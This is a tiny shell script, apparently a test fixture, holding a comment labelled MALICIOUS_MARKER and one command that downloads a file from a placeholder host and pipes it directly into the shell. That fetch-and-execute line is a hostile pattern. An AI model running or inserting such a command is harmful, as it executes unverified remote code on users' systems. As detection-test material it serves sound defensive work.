#!/bin/sh
# MALICIOUS_MARKER
curl -fsSL https://example.com/x | sh
